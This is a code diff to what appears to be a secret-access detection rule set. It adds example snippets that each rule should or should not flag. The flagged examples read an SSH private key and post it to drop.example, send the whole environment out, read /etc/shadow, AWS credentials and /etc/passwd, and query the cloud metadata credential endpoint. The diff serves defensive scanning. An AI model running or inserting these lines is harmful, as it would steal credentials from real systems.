@@ -49,6 +49,16 @@ export const secretRules = {
     attack: ['T1552', 'T1041'],
     message: 'It reads secret files and uses the network: {callee} {target}.',
     remedy: 'Do not run it where real credentials are. Remove the reading or the sending.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import requests\n\nkey = open('/home/ada/.ssh/id_rsa').read()\nrequests.post('https://drop.example/keys', data=key)",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import requests\n\ntext = open('summary.txt').read()\nrequests.post('https://api.example.com/summaries', data=text)",
+      },
+    },
     when: {
       all: [
         [CREDENTIALS, PASSWORDS, ACCOUNT_FILE, ACCOUNT_COMMAND],
@@ -66,6 +76,16 @@ export const secretRules = {
     attack: ['T1552.007', 'T1041'],
     message: 'It takes every environment variable and has a way out: {callee} {target}.',
     remedy: 'Read the variables needed by name; send none of them.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import os, requests\n\nrequests.post('https://drop.example/e', json=dict(os.environ))",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import os, requests\n\nrequests.get('https://api.example.com/v1', headers={'lang': os.environ.get('LANG')})",
+      },
+    },
     when: {
       all: [
         [WHOLE_ENVIRONMENT, ENVIRONMENT_LISTED, ENVIRONMENT_COMMAND],
@@ -83,6 +103,10 @@ export const secretRules = {
     attack: ['T1552.007'],
     message: '{callee} gives every environment variable, with whatever secrets are in it.',
     remedy: 'Read the variables needed by name.',
+    examples: {
+      found: { language: 'python', code: 'import os\n\nprint(dict(os.environ))' },
+      ordinary: { language: 'python', code: "import os\n\nprint(os.environ.get('HOME'))" },
+    },
     when: { any: [WHOLE_ENVIRONMENT, ENVIRONMENT_LISTED, ENVIRONMENT_COMMAND] },
   },
   'password-hash-read': {
@@ -94,6 +118,10 @@ export const secretRules = {
     attack: ['T1003.008'],
     message: '{callee} {target}: password hashes or the rules for becoming root.',
     remedy: 'Do not run it.',
+    examples: {
+      found: { language: 'bash', code: 'cat /etc/shadow' },
+      ordinary: { language: 'bash', code: 'cat shadow.txt' },
+    },
     when: { any: [PASSWORDS] },
   },
   'secret-read': {
@@ -105,6 +133,16 @@ export const secretRules = {
     attack: ['T1552.001', 'T1552.004', 'T1555'],
     message: '{callee} {target}: a place where credentials are kept.',
     remedy: 'Take credentials as a parameter from whoever runs the program.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "const { readFileSync } = require('node:fs');\nconsole.log(readFileSync('/home/ada/.aws/credentials', 'utf8'));",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "const { readFileSync } = require('node:fs');\nconsole.log(readFileSync('config/regions.json', 'utf8'));",
+      },
+    },
     when: { any: [CREDENTIALS] },
   },
   'account-list-read': {
@@ -116,6 +154,10 @@ export const secretRules = {
     attack: ['T1087.001'],
     message: '{callee} {target}: the accounts of the machine.',
     remedy: 'Use the name service (pwd, os.userInfo, getent for one name) when one account is needed.',
+    examples: {
+      found: { language: 'python', code: "with open('/etc/passwd') as accounts:\n    print(accounts.read())" },
+      ordinary: { language: 'python', code: "with open('passwd.csv') as accounts:\n    print(accounts.read())" },
+    },
     when: { any: [ACCOUNT_FILE, ACCOUNT_COMMAND] },
   },
   'metadata-service': {
@@ -127,6 +169,10 @@ export const secretRules = {
     attack: ['T1552.005'],
     message: '{callee} {target}: the address where cloud machines get their credentials.',
     remedy: 'Take credentials from the environment the platform prepares.',
+    examples: {
+      found: { language: 'bash', code: 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
+      ordinary: { language: 'bash', code: 'curl https://status.example.com/health' },
+    },
     when: { any: [{ place: ['metadata-address'] }] },
   },
   'process-internals-read': {
@@ -138,6 +184,10 @@ export const secretRules = {
     attack: ['T1057', 'T1003.007'],
     message: '{callee} {target}: a process’s environment, memory or root folder.',
     remedy: 'Use the language’s own interface for what the program needs of itself.',
+    examples: {
+      found: { language: 'python', code: "print(open('/proc/1/environ').read())" },
+      ordinary: { language: 'python', code: "print(open('/proc/cpuinfo').read())" },
+    },
     when: {
       any: [
         {
